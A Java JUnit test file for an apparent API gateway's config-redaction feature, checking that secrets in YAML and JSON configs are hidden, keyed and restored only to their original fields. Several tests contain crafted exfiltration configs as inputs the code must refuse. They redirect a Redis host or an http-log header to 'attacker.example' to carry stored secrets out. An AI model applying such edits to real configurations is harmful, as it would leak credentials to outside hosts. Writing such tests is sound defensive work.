package com.gitinsight.gateway.admin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.gitinsight.gateway.config.ConfigFile;
import com.gitinsight.gateway.config.GatewayConfig;
import com.gitinsight.gateway.config.KongConfigParser;
import com.gitinsight.gateway.config.PluginRegistry;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HexFormat;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RedactionTest {

    private static final Pattern TOKEN = Pattern.compile("\\{redacted:([0-9a-f]{32})}");
    private static final AdminIdentity ALICE = new AdminIdentity("alice", "token", "127.0.0.1");
    /** Every kind of secret field, written in each YAML style, with comments and a reference. */
    private static final String FILE = """
            # GitInsight gateway: the team's comment
            _format_version: "3.0"
            services:
              - name: api
                url: http://api:80
                plugins:
                  - name: rate-limiting
                    config:
                      minute: 5
                      policy: redis
                      redis:
                        host: redis
                        username: gw   # plain
                        password: |
                          block-redis-password
                  - name: ip-restriction
                    config: {deny: [10.0.0.0/8], message: not here}
                routes: [{name: r, paths: [/r]}]
            consumers:
              - username: alice
                jwt_secrets:
                  - {key: alice-key, secret: very-secret-value}   # rotated from old-secret-value
                  - {key: bob-key, secret: "{vault://env/BOB}"}
            plugins:
              - name: cache-eviction
                config:
                  broker_url: "amqp://gw:broker-pass@mq:5672/%2F"
                  bindings: [{exchange: analysis, routing_key: "#"}]
                  rules: [{event_type: x, evict: ["/a/**"]}]
            """;

    @TempDir
    Path dir;

    private Path file;
    private Redaction redaction;

    @BeforeEach
    void file() throws Exception {
        file = dir.resolve("gateway.yml");
        Files.writeString(file, FILE);
        redaction = Writers.redaction(file);
    }

    @Test
    void inAFleetEachStoredDocumentIsReadInItsOwnFormatWhateverTheNodesFileIsCalled() throws Exception {
        // Nodes started with gateway.json, an admin posted a YAML export (helper review 121): every
        // redacted read answered 400 "malformed JSON".
        assertEquals("config store.yml", ConfigAdmin.documentName(true, "/etc/gateway.json", FILE));
        assertEquals(
                "config store.json",
                ConfigAdmin.documentName(true, "/etc/gateway.yml", "{\"_format_version\": \"3.0\"}"));
        assertEquals(
                "/etc/gateway.json",
                ConfigAdmin.documentName(false, "/etc/gateway.json", FILE),
                "a file is its name's");
        Redaction fleet = new Redaction(
                new com.gitinsight.gateway.config.KongConfigParser(
                        com.gitinsight.gateway.config.PluginRegistry.builtIn()),
                text -> ConfigAdmin.documentName(true, "/etc/gateway.json", text),
                new RedactionKey(new com.gitinsight.gateway.config.ConfigFile(file, 10)));
        assertFalse(fleet.text(FILE).contains("very-secret-value"));
    }

    @Test
    void secretFieldsAreRedactedWhereTheyAreWrittenAndTheRestOfTheFileStays() throws Exception {
        String redacted = redaction.text(FILE);
        for (String secret : new String[] {"very-secret-value", "block-redis-password", "broker-pass"}) {
            assertFalse(redacted.contains(secret), secret + " shows in\n" + redacted);
        }
        assertTrue(
                redacted.startsWith("# (comment withheld)\n"), "comments withheld (put back on a save):\n" + redacted);
        assertTrue(redacted.contains("username: \"{redacted:"), "the Redis username is a credential too");
        assertTrue(redacted.contains("secret: \"{vault://env/BOB}\""), "a reference is no secret");
        assertTrue(redacted.contains("message: not here"), "other fields as written");
        assertTrue(redacted.contains("broker_url: \"{redacted:"), redacted);
        ObjectNode tree = redaction.tree(FILE);
        assertTrue(TOKEN.matcher(tree.path("consumers")
                        .path(0)
                        .path("jwt_secrets")
                        .path(0)
                        .path("secret")
                        .asText())
                .matches());
        assertEquals(tree, DeclarativeDocument.YAML.readTree(redacted), "the text reads as the redacted tree");
    }

    @Test
    void topLevelCredentialsAreRedactedAndRestoredToo() throws Exception {
        String flat = """
                _format_version: "3.0"
                consumers: [{username: carol}]
                jwt_secrets:
                  - consumer: carol
                    key: carol-key
                    secret: carol-top-level-secret
                """;
        Files.writeString(file, flat);
        Redaction r = Writers.redaction(file);
        String redacted = r.text(flat);
        assertFalse(redacted.contains("carol-top-level-secret"), redacted);
        assertTrue(redacted.contains("secret: \"{redacted:"), redacted);
        assertEquals(flat, r.restore(redacted, flat));
    }

    // A secret given through a YAML alias: Jackson's own tree held the anchor's name at the secret
    // field, so the name was "redacted" and the secret itself showed in clear where it is anchored.
    @Test
    void aSecretGivenThroughAnAliasIsRedactedWhereItIsAnchored() throws Exception {
        String aliased = """
                _format_version: "3.0"
                _ignore:
                  - &carol_secret carol-anchored-secret-value
                consumers:
                  - username: carol
                    jwt_secrets: [{key: carol-key, secret: *carol_secret}]
                """;
        Files.writeString(file, aliased);
        Redaction r = Writers.redaction(file);
        String redacted = r.text(aliased);
        assertFalse(redacted.contains("carol-anchored-secret-value"), redacted);
        assertFalse(r.tree(aliased).toString().contains("carol-anchored-secret-value"));
        // The anchored copy is no secret field: its token cannot go back there (a save keeping it is
        // refused, naming it); without it, the secret goes back where the loader reads it.
        AdminException kept = assertThrows(AdminException.class, () -> r.restore(redacted, aliased));
        assertTrue(kept.getMessage().startsWith("_ignore[0]:"), kept.getMessage());
        String saved = r.restore(redacted.replaceAll("(?s)_ignore:\\n  - [^\\n]*\\n", ""), aliased);
        GatewayConfig config = new KongConfigParser(PluginRegistry.builtIn()).parse("gateway.yml", saved);
        assertEquals(
                "carol-anchored-secret-value",
                config.consumers().get(0).jwtSecrets().get(0).secret());
    }

    @Test
    void keyAuthKeysAndBasicAuthPasswordsAreRedactedAndRestored() throws Exception {
        String auth = """
                _format_version: "3.0"
                consumers:
                  - username: erin
                    keyauth_credentials: [{key: erin-api-key-value}]
                    basicauth_credentials: [{username: erin, password: erin-password-value}]
                    acls: [{group: ops}]
                keyauth_credentials:
                  - consumer: erin
                    key: erin-top-level-key
                basicauth_credentials:
                  - consumer: erin
                    username: erin2
                    password: erin-top-level-password
                """;
        Files.writeString(file, auth);
        Redaction r = Writers.redaction(file);
        String redacted = r.text(auth);
        for (String secret : new String[] {
            "erin-api-key-value", "erin-password-value", "erin-top-level-key", "erin-top-level-password"
        }) {
            assertFalse(redacted.contains(secret), secret + " shows in\n" + redacted);
        }
        assertTrue(redacted.contains("username: erin2"), "usernames and groups are no secrets:\n" + redacted);
        assertTrue(redacted.contains("group: ops"), redacted);
        assertEquals(auth, r.restore(redacted, auth));
    }

    @Test
    void aFileReadEditedAndSavedKeepsItsSecretsAndItsLook() throws Exception {
        String edited = redaction.text(FILE).replace("[/r]", "[/r, /s]");
        String saved = redaction.restore(edited, FILE);
        assertEquals(FILE.replace("[/r]", "[/r, /s]"), saved, "each secret and comment back as it was written");
    }

    // Attacker review 148: a marker moved into a quoted key that spans lines was taken for a comment
    // and given the withheld comment's text, which then sat in the data for the next read.
    @Test
    void aWithheldCommentIsNeverPutBackIntoData() throws Exception {
        Path file = dir.resolve("commented.yml");
        String text = """
                _format_version: "3.0"
                # old redis password, kept for the rollback: Tr0ub4dor&3
                services:
                  - {name: s, url: "http://s:1"}
                """;
        Files.writeString(file, text);
        Redaction r = Writers.redaction(file);
        String view = r.text(text);
        assertTrue(view.contains("# (comment withheld)"), view);
        String crafted =
                view.replace("# (comment withheld)\n", "") + "_ignore:\n- ? \"k# (comment withheld)\n    \"\n  : 1\n";
        String saved = r.restore(crafted, text);
        com.fasterxml.jackson.databind.JsonNode tree = DeclarativeDocument.YAML.readTree(saved);
        assertFalse(tree.toString().contains("Tr0ub4dor"), tree.toString());
    }

    // Helper reviews 111 and 113: a secret commented out is no live value to redact; every comment
    // is withheld from the view (a comment right after a quote, on a block scalar's header, in a
    // file whose secrets are all vault references), and put back when the view is saved.
    @Test
    void commentsAreWithheldFromTheViewAndPutBackOnASave() throws Exception {
        String text = FILE.replace("# plain", "# plain\n                        #    password: OldPassw0rd")
                .replace("message: not here}", "message: \"not # here\"}#password: hunter2-old");
        String redacted = redaction.text(text);
        for (String leaked : List.of("OldPassw0rd", "old-secret-value", "hunter2-old", "the team's comment")) {
            assertFalse(redacted.contains(leaked), leaked + " in\n" + redacted);
        }
        assertTrue(redacted.contains("message: \"not # here\""), "a '#' in a value is data:\n" + redacted);
        assertEquals(text, redaction.restore(redacted, text), "comments and secrets back as written");

        Path vaulted = dir.resolve("vaulted.yml");
        String references = """
                _format_version: "3.0"
                consumers:
                  - username: a
                    basicauth_credentials:
                      - username: a
                        password: "{vault://env/PW}"   # was: hunter2-old
                services:
                  - name: s
                    url: http://s:1
                    tags: [x]
                    plugins:
                      - name: request-termination
                        config:
                          message: |  # password: hunter2-old
                            maintenance
                """;
        Files.writeString(vaulted, references);
        Redaction r = Writers.redaction(vaulted);
        String view = r.text(references);
        assertFalse(view.contains("hunter2-old"), view);
        assertEquals(references, r.restore(view, references));
        String crlf = references.replace("\n", "\r\n");
        assertFalse(r.text(crlf).contains("hunter2-old"));
    }

    @Test
    void tokensAreAnHmacUnderAPerInstallKeyKept0600BesideTheBackups() throws Exception {
        String token = token(redaction.text(FILE), "very-secret-value");
        Path keyFile = dir.resolve("gateway.yml.backups/redaction.key");
        byte[] key = Files.readAllBytes(keyFile);
        assertEquals(32, key.length);
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(keyFile)));
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(key, "HmacSHA256"));
        assertEquals(
                HexFormat.of().formatHex(mac.doFinal("very-secret-value".getBytes(StandardCharsets.UTF_8)), 0, 16),
                token);
        assertNotEquals(
                KongConfigParser.hash("secret:very-secret-value"), token.substring(0, 16), "not the old unkeyed hash");

        assertEquals(
                token,
                token(Writers.redaction(file).text(FILE), "very-secret-value"),
                "the same install, the same token");
        Path other = Files.createDirectories(dir.resolve("other")).resolve("gateway.yml");
        Files.writeString(other, FILE);
        assertNotEquals(
                token,
                token(Writers.redaction(other).text(FILE), "very-secret-value"),
                "another install, another token");
    }

    @Test
    void aTokenIsPutBackOnlyAsTheWholeValueOfASecretField() throws Exception {
        String redacted = redaction.text(FILE);
        String token = "{redacted:" + token(redacted, "very-secret-value") + "}";
        for (String misplaced : new String[] {
            redacted.replace("message: not here", "message: \"" + token + "\""),
            redacted.replace("message: not here", "message: \"the secret is " + token + "\""),
            redacted.replace("deny: [10.0.0.0/8]", "deny: [10.0.0.0/8], \"" + token + "\": x"),
            redacted.replace("key: alice-key", "key: \"" + token + "\"")
        }) {
            AdminException e = assertThrows(AdminException.class, () -> redaction.restore(misplaced, FILE));
            assertEquals(400, e.status);
            assertTrue(
                    e.getMessage().contains("may only stand, whole, for the value of a secret field"), e.getMessage());
        }
        String partial = redacted.replaceFirst(
                "broker_url: \"\\{redacted:[0-9a-f]+}\"",
                Matcher.quoteReplacement("broker_url: \"amqp://x:" + token + "@mq\""));
        assertTrue(partial.contains("amqp://x:{redacted:"), partial);
        assertEquals(
                400,
                assertThrows(AdminException.class, () -> redaction.restore(partial, FILE)).status,
                "not as part of a secret field's value either");
    }

    @Test
    void aTokenGoesBackOnlyIntoTheKindOfFieldItWasReadFrom() throws Exception {
        String redacted = redaction.text(FILE);
        String jwt = "{redacted:" + token(redacted, "very-secret-value") + "}";
        // A log plugin's header is a secret field too: the JWT secret would be sent to the editor's endpoint.
        String exfiltrated = redacted + """
                  - name: http-log
                    config:
                      http_endpoint: http://collector.example/c
                      headers: {X-Stolen: "%s"}
                """.formatted(jwt);
        AdminException e = assertThrows(AdminException.class, () -> redaction.restore(exfiltrated, FILE));
        assertEquals(400, e.status);
        assertTrue(e.getMessage().contains("only into the kind of field it was read from"), e.getMessage());
        // Into the same kind of field (a credential moved to the top level) it still goes back.
        String moved = redacted + """
                jwt_secrets:
                  - {consumer: alice, key: alice-2, secret: "%s"}
                """.formatted(jwt);
        assertTrue(redaction.restore(moved, FILE).contains("secret: very-secret-value"));
    }

    // Attacker review 154: a merge key written with an escape ("\x3c<") is a merge to the loader;
    // the admin side looked for "<<" in the text, missed it, and neither redacted the merged secret
    // nor saw a merged field move a token's destination.
    @Test
    void aMergeKeySpelledWithAnEscapeIsAMergeToTheAdminSideToo() throws Exception {
        String escaped = """
                _format_version: "3.0"
                consumers:
                  - username: carol
                    jwt_secrets:
                      - key: carol-key
                        "\\x3c<": {secret: carol-merged-secret-value}
                """;
        Files.writeString(file, escaped);
        Redaction r = Writers.redaction(file);
        assertFalse(r.text(escaped).contains("carol-merged-secret-value"), r.text(escaped));
        assertFalse(r.tree(escaped).toString().contains("carol-merged-secret-value"));
        String redacted = redaction.text(FILE);
        String movedHost = redacted.replace("        host: redis\n", "        \"\\x3c<\": {host: attacker.example}\n");
        assertTrue(movedHost.contains("attacker.example"), movedHost);
        AdminException e = assertThrows(AdminException.class, () -> redaction.restore(movedHost, FILE));
        assertTrue(e.getMessage().contains("destination it was read from"), e.getMessage());
    }

    // Attacker review 189: each read parsed and keyed the whole file again; one version's tree is
    // made once, and each read gets a copy of its own.
    @Test
    void aVersionsRedactedTreeIsMadeOnceAndEachReadGetsItsOwnCopy() throws Exception {
        com.fasterxml.jackson.databind.node.ObjectNode first = redaction.tree(FILE);
        first.put("edited", true);
        com.fasterxml.jackson.databind.node.ObjectNode second = redaction.tree(FILE);
        assertFalse(second.has("edited"), "a copy");
        assertNotEquals(System.identityHashCode(first), System.identityHashCode(second));
        assertEquals(redaction.tree(new String(FILE.toCharArray())), second, "the same text, the same tree");
    }

    // Attacker review 189: a vault reference stands for a secret as a token does; copied from a
    // consumer's jwt secret into an http-log header it sent the secret to the editor's endpoint.
    @Test
    void aVaultReferenceUsedForASecretFollowsTheTokensRules() throws Exception {
        String withReference = """
                _format_version: "3.0"
                consumers:
                  - username: dave
                    jwt_secrets:
                      - {key: dave-key, secret: "{vault://env/DAVE_JWT_SECRET}"}
                """;
        String leak = withReference + """
                plugins:
                  - name: http-log
                    config:
                      http_endpoint: http://collector.attacker.example/x
                      headers: {X-Leak: "{vault://env/DAVE_JWT_SECRET}"}
                """;
        AdminException e = assertThrows(AdminException.class, () -> redaction.restore(leak, withReference));
        assertEquals(400, e.status);
        assertTrue(e.getMessage().contains("vault reference"), e.getMessage());
        // Where it is, it stays (an edit of anything else); a reference no secret uses is the editor's.
        String renamed = withReference.replace("dave-key", "dave-key-2");
        assertEquals(renamed, redaction.restore(renamed, withReference));
        String other = withReference + """
                plugins:
                  - name: http-log
                    config:
                      http_endpoint: http://collector.example/x
                      headers: {X-Api-Key: "{vault://env/LOG_API_KEY}"}
                """;
        assertEquals(other, redaction.restore(other, withReference));
    }

    // Attacker review 148: the kind check let a token stay where it was while its plugin's
    // destination changed, so the Redis password (or a log header) went to the editor's host.
    @Test
    void aTokenGoesBackOnlyToTheDestinationItWasSentTo() throws Exception {
        String redacted = redaction.text(FILE);
        String moved = redacted.replace("host: redis", "host: attacker.example");
        AdminException e = assertThrows(AdminException.class, () -> redaction.restore(moved, FILE));
        assertEquals(400, e.status);
        assertTrue(e.getMessage().contains("destination it was read from"), e.getMessage());
        // Nor unverified where it was verified (attacker review 149): anyone on the path would read it.
        String unverified = redacted.replace("host: redis", "host: redis\n            ssl_verify: false");
        assertThrows(AdminException.class, () -> redaction.restore(unverified, FILE), unverified);
        String broker = tokenOf(redacted, "broker_url");
        String copied = redacted + """
                  - name: cache-eviction
                    instance_name: second
                    config:
                      broker_url: "%s"
                      bindings: [{exchange: other}]
                      rules: [{event_type: y, evict: ["/b/**"]}]
                """.formatted(broker);
        assertTrue(redaction.restore(copied, FILE).contains("broker-pass"), "the same destination: it goes back");
        String password = tokenOf(redacted, "password");
        String stolen = redacted + """
                  - name: rate-limiting
                    instance_name: stolen
                    config:
                      minute: 5
                      policy: redis
                      redis: {host: attacker.example, password: "%s"}
                """.formatted(password);
        assertThrows(AdminException.class, () -> redaction.restore(stolen, FILE));
        assertTrue(
                redaction
                        .restore(redacted.replace("minute: 5", "minute: 6"), FILE)
                        .contains("block-redis-password"),
                "an edit that sends it nowhere new keeps it");
    }

    @Test
    void aTokenOfNoSecretOfTheCurrentVersionIsRefused() throws Exception {
        String redacted = redaction.text(FILE);
        for (String forged :
                new String[] {"{redacted:0123456789abcdef0123456789abcdef}", "{redacted:0}", "{redacted:}"}) {
            AdminException e = assertThrows(
                    AdminException.class,
                    () -> redaction.restore(
                            redacted.replaceFirst(
                                    "secret: \"\\{redacted:[0-9a-f]+}\"",
                                    "secret: \"" + Matcher.quoteReplacement(forged) + "\""),
                            FILE));
            assertEquals(400, e.status, forged);
        }
    }

    @Test
    void historyIsRedactedByItsOwnFieldsSoARotatedSecretNeverShows() throws Exception {
        String before = FILE.replace("very-secret-value}", "old-secret-value}");
        Files.writeString(file, before);
        ConfigWriter writer = Writers.of(file, 5);
        String oldToken = token(redaction.text(before), "old-secret-value");
        writer.write(null, ALICE, "rotated alice's secret", base -> FILE);
        String history = redaction.text(new ConfigFile(file, 5).backup(1).orElseThrow());
        assertFalse(history.contains("old-secret-value"), history);
        assertEquals(oldToken, token(history, "old-secret-value"));

        String stale = history.replace("[/r]", "[/r, /t]");
        AdminException e = assertThrows(AdminException.class, () -> writer.write(null, ALICE, "stale", base -> stale));
        assertEquals(400, e.status, "the old secret's token stands for nothing now");
        assertEquals(FILE, Files.readString(file));
    }

    @Test
    void aRedactedVersionSavedThroughTheWriterGetsItsSecretsBack() throws Exception {
        String edited = redaction.text(FILE).replace("[/r]", "[/r, /s]");
        Writers.of(file, 5).write(null, ALICE, "edited", base -> edited);
        String saved = Files.readString(file);
        assertTrue(saved.contains("secret: very-secret-value}   # rotated from old-secret-value"), saved);
        assertTrue(saved.contains("broker-pass"));
        assertFalse(saved.contains("{redacted:"));
    }

    @Test
    void aJsonFileAndNumericAndCommentedSecretsRoundTrip() throws Exception {
        Path json = dir.resolve("gateway.json");
        String text = """
                {"_format_version": "3.0",
                 "consumers": [{"username": "a", "jwt_secrets": [{"key": "k", "secret": 123456789}]}]}
                """;
        Files.writeString(json, text);
        Redaction r = Writers.redaction(json);
        String redacted = r.text(text);
        assertFalse(redacted.contains("123456789"), redacted);
        JsonNode back = DeclarativeDocument.YAML.readTree(r.restore(redacted, text));
        assertEquals(
                "123456789",
                back.path("consumers")
                        .path(0)
                        .path("jwt_secrets")
                        .path(0)
                        .path("secret")
                        .asText());

        String commented = FILE.replace("# GitInsight gateway", "# old secret: very-secret-value; GitInsight gateway");
        assertFalse(
                redaction.text(commented).contains("very-secret-value"), "a comment quoting a secret is redacted too");
    }

    // Attacker review 88: a tab-indented JSON body (JSON takes tabs, YAML does not) kept its tokens,
    // and the JSON parser then saved each {redacted:...} as the secret itself.
    @Test
    void aTextWhoseTokensCannotBePutBackIsRefusedNotSavedWithThem() throws Exception {
        Path json = dir.resolve("gateway.json");
        String text = "{\"_format_version\": \"3.0\",\n"
                + " \"consumers\": [{\"username\": \"a\", \"jwt_secrets\": [{\"key\": \"k\", \"secret\": \"s3cret\"}]}]}\n";
        Files.writeString(json, text);
        Redaction r = Writers.redaction(json);
        String redacted = r.text(text);
        String tabbed = redacted.replace("\n ", "\n\t");
        assertTrue(tabbed.contains("\t") && tabbed.contains("{redacted:"), tabbed);
        AdminException e = assertThrows(AdminException.class, () -> r.restore(tabbed, text));
        assertEquals(400, e.status);
        assertTrue(e.getMessage().contains("could not be read to put the secrets back"), e.getMessage());
        // A comment that quoted a secret keeps its token, and the file still saves.
        String commented = FILE.replace("# GitInsight gateway", "# old secret: very-secret-value; GitInsight gateway");
        String back = redaction.restore(redaction.text(commented), commented);
        assertTrue(back.contains("secret: very-secret-value"), back);
    }

    /** The hex of the token at alice's credential, once {@code secret} is checked to be nowhere in clear. */
    /** The token the view writes for {@code field} (its first occurrence). */
    private static String tokenOf(String redacted, String field) {
        Matcher m = Pattern.compile(field + ": \"?(\\{redacted:[0-9a-f]{32}})").matcher(redacted);
        assertTrue(m.find(), redacted);
        return m.group(1);
    }

    private static String token(String redacted, String secret) {
        assertFalse(redacted.contains(secret), secret + " is in clear:\n" + redacted);
        Matcher m = Pattern.compile("\\{key: alice-key, secret: \"\\{redacted:([0-9a-f]{32})}\"}")
                .matcher(redacted);
        assertTrue(m.find(), redacted);
        return m.group(1);
    }
}
